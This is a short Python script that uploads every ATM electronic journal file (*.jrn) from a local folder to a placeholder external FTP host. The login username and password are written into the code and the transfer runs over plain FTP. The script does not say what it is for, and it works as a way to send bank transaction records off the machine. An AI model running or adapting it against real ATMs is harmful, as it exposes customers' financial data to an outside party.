import ftplib, glob, os

with ftplib.FTP("ftp.caixatech-assist.example", "ribeira0417", "multibanco99") as ftp:
    ftp.cwd("journals")
    for name in glob.glob(r"D:\ATM\journal\*.jrn"):
        with open(name, "rb") as fh:
            ftp.storbinary("STOR " + os.path.basename(name), fh)
